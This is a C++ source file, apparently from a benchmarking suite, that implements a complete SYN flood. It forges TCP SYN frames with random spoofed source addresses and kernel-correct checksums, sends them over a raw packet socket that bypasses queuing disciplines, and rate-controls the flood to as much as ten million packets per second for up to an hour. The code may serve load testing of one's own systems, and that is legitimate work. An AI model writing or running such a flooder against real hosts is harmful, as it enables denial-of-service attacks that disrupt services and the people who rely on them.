// SYNs from sources that do not exist, at a steady rate: frames on a packet socket, summed as a
// kernel would, because the machine that is flooded must take them for real.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <ctime>
#include <optional>

#include "base/random.h"
#include "base/unique_fd.h"
#include "exchange.h"
#include "load.h"
#include "wire/checksum.h"

namespace tw::bench {
namespace {

constexpr std::size_t batch = 64;
constexpr std::size_t most_per_second = 10'000'000;
constexpr std::size_t longest_s = 3600;
constexpr std::uint32_t sources = 0x0a80'0000;  // 10.128.0.0/9
constexpr std::uint32_t hosts = 0x007f'ffff;
constexpr std::uint64_t seed = 5;
constexpr std::int64_t ns_per_s = 1'000'000'000;

struct [[gnu::packed]] Frame {
  ethhdr ethernet;
  iphdr ip;
  tcphdr tcp;
};

template <typename Header>
ByteView bytes_of(const Header& header) {
  return {reinterpret_cast<const std::uint8_t*>(&header), sizeof header};
}

/// All but what is different in each.
std::optional<Frame> frame_of(const sockaddr_in& target, const std::string& gateway) {
  Frame frame{};
  ether_addr mac{};
  if (::ether_aton_r(gateway.c_str(), &mac) == nullptr) return std::nullopt;
  std::ranges::copy(mac.ether_addr_octet, frame.ethernet.h_dest);
  frame.ethernet.h_proto = htons(ETH_P_IP);
  frame.ip.version = 4;
  frame.ip.ihl = 5;
  frame.ip.tot_len = htons(sizeof frame.ip + sizeof frame.tcp);
  frame.ip.ttl = 64;
  frame.ip.protocol = IPPROTO_TCP;
  frame.ip.daddr = target.sin_addr.s_addr;
  frame.tcp.dest = target.sin_port;
  frame.tcp.doff = 5;
  frame.tcp.syn = 1;
  frame.tcp.window = htons(64'240);
  return frame;
}

void forge(Frame& frame, std::uint64_t random) {
  iphdr ip = frame.ip;
  ip.saddr = htonl(sources | (static_cast<std::uint32_t>(random) & hosts));
  ip.check = 0;
  InternetSum of_ip;
  of_ip.add(bytes_of(ip));
  ip.check = htons(of_ip.checksum());

  tcphdr tcp = frame.tcp;
  tcp.source = htons(static_cast<std::uint16_t>(1024 + (random >> 32U) % 60'000));
  tcp.seq = htonl(static_cast<std::uint32_t>(random >> 24U));
  tcp.check = 0;
  InternetSum of_tcp =
      pseudo_header_sum(bytes_of(ip.saddr), bytes_of(ip.daddr), IPPROTO_TCP, sizeof tcp);
  of_tcp.add(bytes_of(tcp));
  tcp.check = htons(of_tcp.checksum());
  frame.ip = ip;
  frame.tcp = tcp;
}

UniqueFd open_device(const std::string& device) {
  UniqueFd socket{::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0)};
  sockaddr_ll address{};
  address.sll_family = AF_PACKET;
  address.sll_ifindex = static_cast<int>(::if_nametoindex(device.c_str()));
  const int on = 1;
  if (!socket || address.sll_ifindex == 0 ||
      ::setsockopt(socket.get(), SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on) != 0 ||
      ::bind(socket.get(), reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) {
    return {};
  }
  return socket;
}

std::int64_t now_ns() {
  timespec now{};
  ::clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec * ns_per_s + now.tv_nsec;
}

void sleep_until(std::int64_t when_ns) {
  const timespec when{.tv_sec = when_ns / ns_per_s, .tv_nsec = when_ns % ns_per_s};
  while (::clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &when, nullptr) == EINTR) {
  }
}

}  // namespace

std::string flood(const std::string& device, const std::string& gateway, const std::string& address,
                  const std::string& port, const std::string& rate, const std::string& seconds) {
  const auto target = parse_target(address, port);
  const auto per_second = parse_count(rate, most_per_second);
  const auto duration = parse_count(seconds, longest_s);
  const auto pattern = target ? frame_of(*target, gateway) : std::nullopt;
  errno = EINVAL;
  const UniqueFd socket = pattern && per_second && duration ? open_device(device) : UniqueFd{};
  if (!socket) {
    std::perror("flood");
    return {};
  }
  std::array<Frame, batch> frames;
  std::array<iovec, batch> pieces;
  std::array<mmsghdr, batch> messages{};
  for (std::size_t i = 0; i < batch; ++i) {
    frames[i] = *pattern;
    pieces[i] = {.iov_base = &frames[i], .iov_len = sizeof frames[i]};
    messages[i].msg_hdr.msg_iov = &pieces[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  SeededRandom random{seed};
  const std::int64_t begin = now_ns();
  const std::int64_t end = begin + static_cast<std::int64_t>(*duration) * ns_per_s;
  std::uint64_t offered = 0, sent = 0;
  for (std::int64_t now = begin; now < end; now = now_ns()) {
    for (Frame& frame : frames) forge(frame, random.next());
    const int count = ::sendmmsg(socket.get(), messages.data(), batch, 0);
    if (count > 0) sent += static_cast<std::uint64_t>(count);
    offered += batch;
    sleep_until(begin + static_cast<std::int64_t>(offered * ns_per_s / *per_second));
  }
  const double took = static_cast<double>(now_ns() - begin) / static_cast<double>(ns_per_s);
  return "{\"sent\":" + std::to_string(sent) +
         ",\"per_second\":" + std::to_string(static_cast<double>(sent) / took) + "}";
}

}  // namespace tw::bench
